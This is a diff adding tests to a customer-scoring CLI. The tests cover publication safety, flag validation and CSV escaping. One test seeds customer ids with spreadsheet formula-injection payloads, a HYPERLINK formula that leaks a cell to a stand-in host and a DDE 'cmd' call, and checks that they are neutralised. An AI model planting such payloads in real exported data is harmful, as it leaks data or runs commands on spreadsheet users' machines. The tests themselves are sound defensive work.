@@ -42,6 +42,69 @@ describe('fidelio list', () => {
     expect(listFilter('grow', { ...base, segment: 'loyal' })).toEqual({ where: ['s.contact', 's.action IN ($action0)', 's.segment IN ($segment0)'], params: { action0: 'grow', segment0: 'loyal' } });
   });
 
+  test('only published scores: a run that scored but did not publish is never listed; the published copy lists the same', async () => {
+    await withTempDir(async (dir) => {
+      const db = await scoredDatabase(dir);
+      // A later run scored everyone differently, then its publication failed: customer_scores changed, published_scores did not.
+      const handle = await Database.open(db);
+      await handle.run(`UPDATE customer_scores SET value_at_risk = 990 WHERE customer_id = 'c2'; UPDATE customer_scores SET contact = true WHERE customer_id = 'c5'`);
+      handle.close();
+      expect(ids((await runCli(['list', 'at-risk-vip', '--db', db, '--format', 'json'])).stdout)).toEqual(['c1', 'c2']);
+      // The published copy (no runs table, its own customer_scores and countries) answers the same lists.
+      const copy = `${dir}/copy.duckdb`;
+      const c = await Database.open(copy);
+      await c.run(`ATTACH '${db}' AS w (READ_ONLY); CREATE TABLE customer_scores AS SELECT * FROM w.published_scores;
+        CREATE TABLE customers AS SELECT customer_id, country FROM w.customers; DETACH w`);
+      c.close();
+      expect(ids((await runCli(['list', 'save', '--db', copy, '--format', 'json', '--country', 'ES'])).stdout)).toEqual(['c1', 'c4']);
+      // A database from before published_scores whose last run failed: nothing is served, and the message says why.
+      const old = await Database.open(db);
+      await old.run('DROP TABLE published_scores');
+      old.close();
+      const refused = await runCli(['list', 'save', '--db', db]);
+      expect(refused.code).toBe(2);
+      expect(refused.errors).toContain('has no published scores: its last run (r2) failed before publishing');
+    });
+  });
+
+  test('--top, --segment and --country: nothing silently dropped, an empty list still has its header, a comma can be part of a country', async () => {
+    await withTempDir(async (dir) => {
+      const db = await scoredDatabase(dir);
+      for (const top of ['0', '', '-1', '1.5', '18446744073709551617']) {
+        const r = await runCli(['list', 'save', '--db', db, '--top', top]);
+        expect(r.code, top).toBe(2);
+        expect(r.errors).toContain(`--top must be a whole number from 1 to 1,000,000,000, got "${top}"`);
+      }
+      for (const [flag, value] of [['--segment', ''], ['--country', ','], ['--tier', '1,']]) {
+        const r = await runCli(['list', 'save', '--db', db, flag!, value!]);
+        expect(r.code, `${flag} ${value}`).toBe(2);
+        expect(r.errors).toContain(`${flag}: an empty value`);
+      }
+      const none = await runCli(['list', 'save', '--db', db, '--segment', 'hibernating']);
+      expect(none.code).toBe(0);
+      expect(none.stdout).toBe('customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk\n');
+      const handle = await Database.open(db);
+      await handle.run(`UPDATE customers SET country = 'Korea, Republic of' WHERE customer_id = 'c2'`);
+      handle.close();
+      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--country', 'Korea\\, Republic of'])).stdout)).toEqual(['c2']);
+      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--country', 'ES', '--country', 'Korea\\, Republic of'])).stdout)).toEqual(['c1', 'c2', 'c4']);
+    });
+  });
+
+  test('a hostile customer id reaches the CSV as text a spreadsheet will not run; JSON keeps it as it is', async () => {
+    await withTempDir(async (dir) => {
+      const db = await scoredDatabase(dir);
+      const handle = await Database.open(db);
+      await handle.run(`UPDATE published_scores SET customer_id = '=HYPERLINK("http://x/?leak="&A1,"click")' WHERE customer_id = 'c1';
+        UPDATE published_scores SET customer_id = '+1+cmd|'' /C calc''!A0' WHERE customer_id = 'c2'`);
+      handle.close();
+      const csv = (await runCli(['list', 'save', '--db', db])).stdout.trim().split('\n');
+      expect(csv[1]).toBe(`"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",true,high,save,1,champions,true,900`);
+      expect(csv[2]).toBe(`'+1+cmd|' /C calc'!A0,true,medium,save,1,loyal,true,500`);
+      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json'])).stdout)[0]).toBe('=HYPERLINK("http://x/?leak="&A1,"click")');
+    });
+  });
+
   test('a database that does not exist or has no scores yet says to run the pipeline first (exit 2)', async () => {
     await withTempDir(async (dir) => {
       const out = await runCli(['list', 'save', '--db', `${dir}/none.duckdb`]);
